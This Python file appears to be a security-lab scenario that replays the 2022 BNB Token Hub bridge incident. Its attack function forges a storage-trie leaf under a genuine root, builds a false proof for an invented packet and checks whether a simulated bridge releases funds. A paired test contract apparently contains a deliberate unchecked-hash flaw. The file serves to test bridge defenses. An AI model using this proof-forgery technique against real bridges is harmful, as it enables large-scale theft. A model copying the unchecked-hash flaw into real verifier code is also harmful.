"""BNB Token Hub: a node hangs where no hash binds it."""

from __future__ import annotations

from dataclasses import replace

import rlp
from eth_utils.crypto import keccak

from bridge.clients import encode_proof
from bridge.packets import commitment_slot, packet_id
from clearspan.lab.scenarios.base import Scenario, Stage, Twin, Verdict
from clearspan.lab.scenarios.moves import Heist, TrieReader, leaf, nibbles


def attack(stage: Stage) -> Verdict:
    """The thief's leaf under the true root of the mailbox's storage, in the place of what really hangs there."""
    with stage.world() as world:
        heist = Heist(world)
        heist.deposit(5 * 10**6, world.base.users[0])
        header = heist.trusted()
        nodes: tuple[bytes, ...] = ()
        while len(nodes) < 2:  # until the invented commitment's place is below a branch of the true trie
            packet = heist.invented()
            slot = commitment_slot(packet_id(packet))
            proof = heist.source.get_proof(heist.entry.mailbox, [slot], header.number)
            nodes = proof.storage[0].nodes
        key = keccak(slot.to_bytes(32, "big"))
        depth = len(nodes) - 1
        hung = (*nodes[:-1], leaf(nibbles(key)[depth:], rlp.encode(packet_id(packet))))
        believed = TrieReader(stage, heist).find(proof.storage_hash, key, hung)
        word = replace(proof.storage[0], value=int.from_bytes(packet_id(packet), "big"), nodes=hung)
        outcome = heist.hand_over(packet, encode_proof(header, replace(proof, storage=(word,))))
        loot = believed == rlp.encode(packet_id(packet))
        return Verdict(
            survived=not loot and heist.loot == 0,
            detail=f"a leaf that no hash binds, at depth {depth}: "
            f"{believed if isinstance(believed, str) else 'believed'}; through the mailbox: {outcome}",
        )


SCENARIO = Scenario(
    identifier="incident-17",
    title="A forged leaf hangs under a true root",
    group="C3",
    source="BNB Token Hub, 6 Oct 2022, $566M",
    attack=attack,
    twin=Twin(mutation="a node's hash is not compared", contracts=(("TestTrie", "trie-unbound-node"),)),
)
